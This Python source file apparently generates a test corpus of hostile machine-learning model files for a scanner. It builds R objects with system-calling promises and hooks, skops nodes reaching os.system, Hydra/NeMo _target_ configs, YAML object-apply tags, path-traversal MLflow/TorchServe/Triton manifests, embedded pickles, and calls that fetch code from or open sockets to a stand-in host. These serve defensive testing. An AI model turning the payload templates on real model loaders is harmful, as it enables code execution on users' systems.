"""Hostile R objects, boosters, MessagePack, skops files and packaged models (NeMo, MLflow, TorchServe, Triton).

R objects are written item by item; nothing here needs R. Calls name what makes them an attack and get harmless arguments.
"""

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile

from malicious_ops import NOWHERE, SHELL, URL, Call, Glob, dump

OBJECT, ATTRIBUTES, TAG = 1 << 8, 1 << 9, 1 << 10
NIL, GLOBAL, UNBOUND, MISSING, EMPTY, BASE = 254, 253, 252, 251, 242, 241


class R:
    """Writes one serialized object; values are tuples whose first element is the kind."""

    def __init__(self, encoding="X", version=2):
        self.encoding = encoding
        self.names = []
        self.out = bytearray(encoding.encode() + b"\n")
        for number in (version, 0x040202, 0x020300 if version == 2 else 0x030500):
            self.int(number)
        if version == 3:
            self.int(5)
            self.bytes(b"UTF-8")

    def int(self, value):
        if self.encoding == "A":
            self.out += b"%d\n" % value
        else:
            self.out += struct.pack(">i" if self.encoding == "X" else "<i", value)

    def bytes(self, data):
        if self.encoding == "A":
            self.out += b"".join(bytes([b]) if 32 < b < 127 and b not in b"\\\"'?" else b"\\%03o" % b for b in data) + b"\n"
        else:
            self.out += data

    def chars(self, text):
        data = text.encode()
        self.int(0x00040009)
        self.int(len(data))
        self.bytes(data)

    def raw(self, data):
        self.int(24)
        self.int(len(data))
        self.out += data

    def write(self, value):
        if value is None:
            return self.int(NIL)
        if isinstance(value, int):
            return self.int(value)
        if isinstance(value, str):
            self.int(16)
            self.int(1)
            return self.chars(value)
        if isinstance(value, bytes):
            return self.raw(value)
        getattr(self, value[0])(*value[1:])

    def sym(self, name):
        if name in self.names:
            return self.int((self.names.index(name) + 1) << 8 | 255)
        self.int(1)
        self.chars(name)
        self.names.append(name)

    def lang(self, *parts, attributes=None):
        for index, part in enumerate(parts):
            tag, part = part if isinstance(part, tuple) and part[0] not in KINDS else (None, part)
            self.int((2 if index else 6) | (TAG if tag else 0) | (ATTRIBUTES if attributes and not index else 0))
            if attributes and not index:
                self.write(attributes)
            if tag:
                self.sym(tag)
            self.write(part)
        self.int(NIL)

    def pairs(self, *items, flags=0):
        for tag, value in items:
            self.int(2 | TAG | flags)
            self.sym(tag)
            self.write(value)
        self.int(NIL)

    def active(self, *items):
        self.pairs(*items, flags=1 << 27)

    def promise(self, code, value=UNBOUND, env=GLOBAL):
        self.int(5 | (TAG if env is not None else 0))
        if env is not None:
            self.write(env)
        self.write(value)
        self.write(code)

    def closure(self, formals, body, env=GLOBAL):
        self.int(3 | TAG)
        self.write(env)
        self.write(formals)
        self.write(body)

    def env(self, frame, table=None):
        self.names.append(None)
        self.int(4)
        self.int(0)
        self.write(GLOBAL)
        self.write(frame)
        self.write(table)
        self.write(None)

    def vec(self, *items, kind=19, attributes=None):
        self.int(kind | (ATTRIBUTES if attributes else 0))
        self.int(len(items))
        for item in items:
            self.write(item)
        if attributes:
            self.write(attributes)

    def expr(self, *items):
        self.vec(*items, kind=20)

    def builtin(self, name):
        self.int(8)
        self.int(len(name))
        self.bytes(name.encode())

    def altrep(self, kind, package, state):
        self.int(238)
        for name in (kind, package):
            self.int(2)
            self.sym(name)
        self.int(2)
        self.int(13)
        self.int(1)
        self.int(13)
        self.int(NIL)
        self.write(state)
        self.int(NIL)

    def bytecode(self, *constants):
        self.int(21)
        self.int(1)
        self.int(13)
        self.int(2)
        self.int(12)
        self.int(0)
        self.int(len(constants))
        for constant in constants:
            if constant[0] == "lang":
                self.code(6, constant[1:])
            else:
                # The kind, then the item itself.
                self.int(1)
                self.write(constant)

    def code(self, kind, parts):
        self.int(kind)
        self.int(NIL)
        head = parts[0]
        if head[0] == "lang":
            self.code(6, head[1:])
        else:
            self.int(0)
            self.write(head)
        if len(parts) > 1:
            self.code(2, parts[1:])
        else:
            self.int(0)
            self.int(NIL)

    def persist(self, name):
        self.int(247)
        self.int(0)
        self.int(1)
        self.chars(name)


KINDS = {"sym", "lang", "pairs", "active", "promise", "closure", "env", "vec", "expr", "builtin", "altrep", "bytecode", "persist"}


def rds(value, encoding="X", version=2):
    writer = R(encoding, version)
    writer.write(value)
    return bytes(writer.out)


def rda(*items, version=2, encoding="X"):
    return b"RD%s%d\n" % (encoding.encode(), version) + rds(("pairs", *items), encoding, version)


def sym(name):
    return ("sym", name)


def lang(name, *arguments):
    return ("lang", sym(name) if isinstance(name, str) else name, *arguments)


def function(body, formals=None):
    return ("closure", formals, body)


SYSTEM = lang("system", SHELL)


def r_objects(corpus):
    def add(slug, name, data, technique, **more):
        corpus.add("r", slug, name, data, technique, **more)

    cve = "CVE-2024-27322"
    add("promise-root", "model.rds", rds(("promise", SYSTEM)), "promise as the object", advisory=cve)
    add("promise-gzip", "model.rds", gzip.compress(rds(("promise", SYSTEM)), mtime=0), "promise, gzip", advisory=cve)
    add("promise-xz", "model.rds", lzma.compress(rds(("promise", SYSTEM))), "promise, xz", advisory=cve)
    add("promise-bzip2", "model.rds", bz2.compress(rds(("promise", SYSTEM))), "promise, bzip2", advisory=cve)
    add("promise-ascii", "model.rds", rds(("promise", SYSTEM), "A"), "promise, text encoding", advisory=cve)
    add("promise-native", "model.rds", rds(("promise", SYSTEM), "B"), "promise, native encoding", advisory=cve)
    add("promise-v3", "model.rds", rds(("promise", SYSTEM), "X", 3), "promise, version 3", advisory=cve)
    add("promise-rda", "work.RData", rda(("model", ("promise", SYSTEM))), "promise bound by load", advisory=cve)
    add("promise-rda3", "work.rda", rda(("model", ("promise", SYSTEM)), version=3), "promise bound by load, version 3", advisory=cve)
    add("promise-list", "model.rds", rds(("vec", "a", ("promise", SYSTEM))), "promise in a list", advisory=cve)
    add("promise-attribute", "model.rds", attributed(("pairs", ("row.names", ("promise", SYSTEM)))), "promise in an attribute", advisory=cve)
    add("promise-variable", "model.rds", rds(("env", ("pairs", ("x", ("promise", SYSTEM))))), "promise of a variable")
    add("promise-symbol-only", "model.rds", rds(("promise", sym("anything"))), "promise that reads a variable", advisory=cve)
    add("promise-eval-text", "model.rds", rds(("env", ("pairs", ("x", ("promise", lang("eval", lang("parse", ("text", "system('echo')")))))))),
        "promise evaluates text")
    add("promise-computed", "model.rds", rds(("env", ("pairs", ("x", ("promise", ("lang", lang("get", lang("paste0", "sys", "tem")), SHELL)))))),
        "name computed in a promise")
    add("promise-readrds", "model.rds", rds(("env", ("pairs", ("x", ("promise", lang("readRDS", NOWHERE)))))), "promise loads another object")
    add("promise-hashed", "model.rds", rds(("env", None, ("vec", ("pairs", ("x", ("promise", SYSTEM)))))), "promise in a hashed environment")
    add("active-binding", "model.rds", rds(("env", ("active", ("x", function(SYSTEM))))), "active binding")
    add("language-root", "model.rds", rds(SYSTEM), "call as the object")
    add("language-call", "lm.rds", rds(("vec", "a", lang("lm", ("data", SYSTEM)))), "argument of a recorded call")
    add("formula", "lm.rds", rds(lang("~", sym("y"), lang("I", SYSTEM))), "call within a formula")
    add("expression", "model.rds", rds(("expr", SYSTEM)), "expression vector")
    add("namespace-call", "model.rds", rds(lang(lang("::", sym("base"), sym("system2")), SHELL)), "call through ::")
    add("processx", "model.rds", rds(lang(lang("::", sym("processx"), sym("run")), SHELL)), "package that runs commands")
    add("reticulate", "model.rds", rds(lang(lang("::", sym("reticulate"), sym("py_run_string")), "print('CLEANBILL-INERT')")), "Python from R")
    add("baseenv", "model.rds", rds(lang(lang("$", lang("baseenv"), sym("system")), SHELL)), "function taken from an environment")
    add("do-call", "model.rds", rds(function(lang("do.call", "system", lang("list", SHELL)))), "do.call with a name")
    add("alias", "model.rds", rds(function(lang("{", lang("<-", sym("f"), sym("system")), lang("f", SHELL)))), "alias within a function")
    add("sapply", "model.rds", rds(function(lang("sapply", SHELL, sym("system")))), "function handed over")
    add("match-fun", "model.rds", rds(lang(lang("match.fun", lang("rev", "metsys")), SHELL)), "computed function in a call")
    add("builtin", "model.rds", rds(("lang", ("builtin", "system"), SHELL)), "function of the interpreter in place of a name")
    add("internal", "model.rds", rds(function(lang(".Internal", lang("system", SHELL, 0)))), ".Internal")
    add("default-argument", "model.rds", rds(("closure", ("pairs", ("x", SYSTEM)), sym("x"))), "default of an argument")
    add("bytecode", "model.rds", rds(function(("bytecode", ("lang", sym("system"), SHELL)))), "compiled function")
    add("bytecode-other", "model.rds", rds(function(("bytecode", ("lang", sym("mean"), sym("x")), sym("system")))), "compiled code unlike its source")
    add("first", "work.RData", rda((".First", function(lang("cat", "CLEANBILL-INERT")))), "hook .First")
    add("last", "work.RData", rda((".Last", function(lang("cat", "CLEANBILL-INERT")))), "hook .Last")
    add("mask-print", "work.RData", rda(("print", function(lang("{", SYSTEM, sym("x"))))), "replaces print")
    add("download", "model.rds", rds(function(lang("download.file", URL, NOWHERE))), "fetches a file")
    add("dyn-load", "model.rds", rds(function(lang("dyn.load", NOWHERE))), "loads native code")
    add("source", "model.rds", rds(function(lang("source", URL))), "runs code from elsewhere")
    add("socket", "model.rds", rds(function(lang("socketConnection", "cleanbill.example.invalid", ("port", 0)))), "opens a connection")
    add("unlink", "model.rds", rds(function(lang("unlink", NOWHERE, ("recursive", 0)))), "deletes files")
    add("untar", "model.rds", rds(function(lang("untar", NOWHERE, ("tar", SHELL)))), "gadget: untar runs a program")
    add("texi2dvi", "model.rds", rds(lang("texi2dvi", NOWHERE)), "gadget: texi2dvi")
    add("finalizer", "model.rds", rds(function(lang("reg.finalizer", lang("environment"), sym("system")))), "finalizer")
    add("task-callback", "model.rds", rds(function(lang("addTaskCallback", sym("system")))), "task callback")
    add("altrep-mmap", "model.rds", rds(("altrep", "mmap_integer", "base", ("vec", NOWHERE))), "vector that maps a file")
    add("str2lang", "model.rds", rds(function(lang("eval", lang("str2lang", "base::system('echo')")))), "text parsed by str2lang")
    add("raw-nested", "model.rds", rds(rds(("promise", SYSTEM))), "object within a raw vector")
    add("after", "model.rds", rds("a") + rds(("promise", SYSTEM)), "second object after the first")
    add("deep", "model.rds", rds(nest(SYSTEM, 300)), "call below 300 levels")
    add("misnamed", "model.bin", gzip.compress(rds(("promise", SYSTEM)), mtime=0), "false extension")
    add("makecluster", "model.rds", rds(("env", ("pairs", ("x", ("promise", lang(lang("::", sym("parallel"), sym("makeCluster")), 1)))))), "gadget: makeCluster starts a program")


def attributed(attributes):
    writer = R()
    writer.vec("a", attributes=attributes)
    return bytes(writer.out)


def nest(value, levels):
    for _ in range(levels):
        value = lang("(", value)
    return value


def zipped(files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files:
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def tarred(files, mode="w"):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data in files:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return gzip.compress(out.getvalue(), mtime=0) if mode == "gz" else out.getvalue()


def node(loader, module, name, content=None, **more):
    value = {"__class__": name, "__module__": module, "__loader__": loader, "content": content if content is not None else {}}
    value.update(more)
    return value


def skops(corpus):
    def add(slug, schema, technique, advisory=None, **more):
        body = dict(schema, protocol=2, _skops_version="0.13.0")
        data = zipped([("schema.json", json.dumps(body, indent=2).encode())])
        corpus.add("skops", slug, "model.skops", data, technique, advisory=advisory, **more)

    text = node("JsonNode", "builtins", "str", json.dumps(SHELL), is_json=True)
    arguments = node("TupleNode", "builtins", "tuple", [text])
    add("operator-call", node("OperatorFuncNode", "operator", "call", {"attrs": arguments}), "operator node", "CVE-2025-54412")
    add("operator-hidden", node("OperatorFuncNode", "sklearn.linear_model", "methodcaller", {"attrs": arguments}), "operator node under a trusted module", "CVE-2025-54412")
    system = node("TypeNode", "os", "system")
    add("method", node("MethodNode", "builtins", "int", {"func": "__call__", "obj": system}), "method node", "CVE-2025-54413")
    add("method-globals", node("MethodNode", "sklearn.base", "BaseEstimator", {"func": "__globals__", "obj": node("FunctionNode", "numpy", "mean")}),
        "method node reaches globals", "CVE-2025-54413")
    corpus.add("skops", "cve-2025-54886-pickle", "model.skops", dump(Call(Glob("os", "system"), SHELL)), "pickle named .skops", advisory="CVE-2025-54886")
    add("function-eval", node("FunctionNode", "builtins", "eval"), "function node")
    add("partial", node("PartialNode", "functools", "partial", {"func": node("FunctionNode", "subprocess", "check_output"), "args": arguments}), "partial node")
    add("reduce", node("ConstructorFromReduceNode", "subprocess", "Popen", arguments), "constructor node")
    add("list-popen", node("ListNode", "subprocess", "Popen", [text]), "dangerous class under a list loader")
    add("stdlib", node("ObjectNode", "pdb", "Pdb"), "class of the standard library")
    add("outside", node("NdArrayNode", "numpy", "ndarray", type="numpy", file="../../etc/x.npy"), "file outside the archive")
    add("nested", node("DictNode", "builtins", "dict", {"a": node("ListNode", "builtins", "list", [node("FunctionNode", "importlib", "import_module")])}),
        "nested deep")
    add("getter", node("OperatorFuncNode", "operator", "attrgetter", {"attrs": node("FunctionNode", "posix", "system")}), "function inside a getter")


def hydra(corpus):
    def nemo(slug, config, technique, mode="w", advisory="CVE-2025-23304", name="model_config.yaml"):
        data = tarred([("./" + name, config.encode()), ("./model_weights.ckpt", b"\x80\x02}q\x00.")], mode)
        corpus.add("nemo", slug, "model.nemo", data, technique, advisory=advisory, textual=True)

    nemo("target-system", "model:\n  _target_: os.system\n  command: echo\n", "_target_ runs a command")
    nemo("target-gz", "model:\n  _target_: subprocess.run\n  args: [echo]\n", "_target_, gzip", "gz")
    nemo("target-exec", "target: builtins.exec\nsource: pass\n", "target of the model")
    nemo("target-quoted", "m:\n  \"_target_\": \"\\x6fs.system\"\n", "escaped name")
    nemo("target-flow", "m: {_target_: 'posix.system', command: echo}\n", "flow mapping")
    nemo("target-block", "m:\n  _target_: >-\n    builtins.eval\n  _args_: ['1']\n", "block scalar")
    nemo("target-anchor", "x: &call os.popen\nm:\n  _target_: *call\n", "anchor and alias")
    nemo("target-dotted", "m:\n  _target_: shutil.os.system\n", "module reached through a module")
    nemo("target-collect-env", "m:\n  _target_: torch.utils.collect_env.run\n  command: echo\n", "gadget of torch")
    nemo("get-method", "m:\n  _target_: hydra.utils.get_method\n  path: os.system\n", "hydra.utils.get_method")
    nemo("torch-load", "m:\n  _target_: torch.load\n  f: x\n", "loads a pickle")
    nemo("cext", "m:\n  _target_: torch.ops.load_library\n  path: x.so\n", "loads native code")
    nemo("pdb", "m:\n  _target_: pdb.run\n  statement: pass\n", "standard library")

    def config(slug, name, text, technique, advisory=None):
        corpus.add("hydra", slug, name, text.encode(), technique, advisory=advisory, textual=True)

    config("json-target", "config.json", json.dumps({"model": {"_target_": "os.system", "command": "echo"}}), "_target_ in JSON")
    config("class-path", "config.yaml", "model:\n  class_path: subprocess.Popen\n  init_args:\n    args: [echo]\n", "class_path")
    config("component", "recipe.yaml", "model:\n  _component_: os.system\n  command: echo\n", "_component_")
    config("latent", "model.yaml", "model:\n  target: os.system\n  params:\n    command: echo\n", "target and params")
    config("yaml-apply", "params.yaml", "a: !!python/object/apply:os.system [echo]\n", "YAML tag applies a function", "CVE-2020-14343")
    config("yaml-new", "params.yaml", "a: !!python/object/new:subprocess.Popen [[echo]]\n", "YAML tag creates an object")
    config("yaml-verbatim", "params.yaml", "a: !<tag:yaml.org,2002:python/object/apply:builtins.exec> ['pass']\n", "verbatim tag")
    config("yaml-module", "params.yaml", "a: 1\nb: !!python/module:webbrowser\n", "YAML tag imports a module")
    config("yaml-java", "params.yaml", "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://cleanbill.example.invalid/\"]]]]\n",
           "YAML tag of Java")


def packages(corpus):
    def mlflow(slug, text, technique, advisory=None):
        corpus.add("mlflow", slug, "MLmodel", text.encode(), technique, advisory=advisory, textual=True)

    head = "artifact_path: model\nflavors:\n  python_function:\n"
    mlflow("loader-os", head + "    loader_module: os\n    data: x\nmlflow_version: 2.9.0\n", "loader is a module of Python")
    mlflow("loader-subprocess", head + "    loader_module: subprocess\n", "loader runs commands")
    mlflow("code-outside", head + "    loader_module: mlflow.sklearn\n    code: ../../tmp/evil\n", "code outside the folder")
    mlflow("code-absolute", head + "    loader_module: mlflow.sklearn\n    code: /tmp/evil\n", "code at an absolute path")
    mlflow("model-code", head + "    loader_module: mlflow.pyfunc.loaders.code_model\n    model_code_path: http://cleanbill.example.invalid/m.py\n", "code at an address")
    mlflow("data-outside", head + "    loader_module: mlflow.sklearn\n    model_path: ../../../etc/passwd\n", "path outside the folder", "CVE-2023-43472")
    mlflow("yaml-tag", head + "    loader_module: mlflow.sklearn\n    env: !!python/object/apply:os.system [echo]\n", "YAML tag")

    def mar(slug, model, technique, extra=(), advisory=None):
        manifest = {"createdOn": "x", "runtime": "python", "model": dict({"modelName": "m", "modelVersion": "1.0"}, **model)}
        data = zipped([("MAR-INF/MANIFEST.json", json.dumps(manifest, indent=2).encode()), *extra])
        corpus.add("torchserve", slug, "model.mar", data, technique, advisory=advisory)

    mar("handler-subprocess", {"handler": "subprocess:call"}, "handler is a module of Python")
    mar("handler-outside", {"handler": "../../../tmp/evil.py"}, "handler outside the archive", advisory="CVE-2023-48299")
    mar("model-file-outside", {"handler": "image_classifier", "modelFile": "/tmp/evil.py"}, "model file outside the archive")
    mar("serialized-pickle", {"handler": "image_classifier", "serializedFile": "model.pt"}, "pickle in the archive",
        [("model.pt", dump(Call(Glob("os", "system"), SHELL)))])
    mar("slip", {"handler": "image_classifier"}, "entry that leaves the folder", [("../../evil.py", b"pass\n")])

    def triton(slug, text, technique):
        corpus.add("triton", slug, "config.pbtxt", text.encode(), technique, textual=True)

    triton("backend-path", 'name: "m"\nbackend: "../../tmp/evil"\nmax_batch_size: 1\n', "backend outside the repository")
    triton("op-library", 'name: "m"\nplatform: "tensorflow_savedmodel"\nmax_batch_size: 1\nmodel_operations { op_library_filename: "evil.so" }\n', "native library")
    triton("environment", 'name: "m"\nbackend: "python"\nmax_batch_size: 1\nparameters: {\n  key: "EXECUTION_ENV_PATH",\n  value: {string_value: "/tmp/evil.tar.gz"}\n}\n',
           "environment from outside")
    triton("filename", 'name: "m"\nplatform: "onnxruntime_onnx"\nmax_batch_size: 1\ndefault_model_filename: "../../evil.onnx"\n', "model outside the folder")


def flax(kind, shape, data):
    body = b"\x93\x91\xce" + struct.pack(">I", shape) + bytes([0xa0 | len(kind)]) + kind + b"\xc6" + struct.pack(">I", len(data)) + data
    return b"\x81\xa6params\x81\xa1w\xc9" + struct.pack(">I", len(body)) + b"\x01" + body


def tree(left, right, conditions=None):
    out = b"{L" + struct.pack(">q", 7) + b"learner{"
    for key, values in ((b"left_children", left), (b"right_children", right), (b"split_indices", conditions or [0] * len(left))):
        out += b"L" + struct.pack(">q", len(key)) + key + b"[$l#L" + struct.pack(">q", len(values)) + b"".join(struct.pack(">i", v) for v in values)
    return out + b"}}"


def numbers(corpus):
    def msgpack(slug, data, technique):
        corpus.add("msgpack", "flax-" + slug, "flax_model.msgpack", data, technique)

    system = dump(Call(Glob("os", "system"), SHELL))
    msgpack("objects", flax(b"object", 2, bytes(16)), "array of Python objects")
    msgpack("objects-pickle", flax(b"O", 1, system.ljust(64, b".")), "array of objects with a pickle in it")
    msgpack("shape", flax(b"float32", 0xffffffff, bytes(8)), "shape larger than the bytes")
    msgpack("repeated", b"\x82\xa1a\x81\xa1w\x01\xa1a\x81\xa1w\x02", "key that stands twice")
    msgpack("elf", flax(b"uint8", 128, b"\x7fELF\x02\x01\x01".ljust(128, b"\0")), "program in an array")
    msgpack("pickle-bytes", b"\x81\xa1a\x81\xa1p\xc4" + bytes([len(system)]) + system, "pickle in a byte string")
    msgpack("after", flax(b"float32", 2, bytes(8)) + system, "pickle after the parameters")

    def booster(slug, data, technique):
        corpus.add("boosters", "xgboost-" + slug, "model.ubj", data, technique)

    booster("child-outside", tree([1, -1, -1], [2147483, -1, -1]), "child outside the tree")
    booster("child-negative", tree([1, -1, -1], [-2147483648, -1, -1]), "negative child")
    booster("circle", tree([1, 2, 1], [-1, -1, -1]), "nodes in a circle")
    booster("root-as-child", tree([1, 0, -1], [2, -1, -1]), "root is a child")
    booster("lengths", tree([1, -1, -1], [2, -1, -1], [0]), "fewer conditions than nodes")
    booster("after", tree([-1], [-1]) + system, "pickle after the model")


def build(corpus):
    numbers(corpus)
    r_objects(corpus)
    skops(corpus)
    hydra(corpus)
    packages(corpus)
